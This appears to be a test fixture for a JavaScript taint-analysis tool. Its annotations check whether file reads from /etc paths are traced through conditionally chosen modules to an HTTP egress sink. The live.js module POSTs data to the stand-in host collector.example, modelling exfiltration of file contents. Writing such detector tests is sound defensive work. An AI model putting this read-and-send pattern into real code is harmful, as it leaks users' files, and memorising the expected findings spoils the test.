// A name that is bound by turns means each of the things that it is bound to.
// --- path: live.js ---
exports.put = function (d) {
  fetch('https://collector.example/x', { method: 'POST', body: d }); //~ sink(egress.http) b1, sink(egress.http) b2, sink(egress.http) b3, sink(egress.http) b4, finding(file-upload, traced) b1, MISSING:finding(file-upload, traced) b2, finding(file-upload, traced) b3, finding(file-upload, traced) b4
};
// --- path: dry.js ---
exports.put = function (d) { return d.length; };
// --- path: chosen.js ---
const fs = require('fs');
const to = process.env.DRY ? require('./dry') : require('./live');
to.put(fs.readFileSync('/etc/chosen', 'utf8')); //~ source(FILE) b1
// --- path: assigned.js ---
const fs = require('fs');
let to = require('./dry');
if (process.env.LIVE) to = require('./live');
to.put(fs.readFileSync('/etc/assigned', 'utf8')); //~ source(FILE) b2
// --- path: handed.js ---
const live = require('./live'), dry = require('./dry'), fs = require('fs');
function up(to, d) { to.put(d); }
up(dry, 'nothing');
up(live, fs.readFileSync('/etc/handed', 'utf8')); //~ source(FILE) b3
// --- path: field.js ---
const fs = require('fs');
class Agent {
  constructor(quiet) {
    this.to = require('./live');
    if (quiet) this.to = require('./dry');
  }
  go() { this.to.put(fs.readFileSync('/etc/field', 'utf8')); } //~ source(FILE) b4
}
new Agent().go();
// --- path: neither.js ---
const fs = require('fs');
const to = process.env.DRY ? require('./dry') : require('./none');
to.put(fs.readFileSync('/etc/neither', 'utf8')); //~ ok
// --- path: none.js ---
exports.put = function (d) { return d.length; };
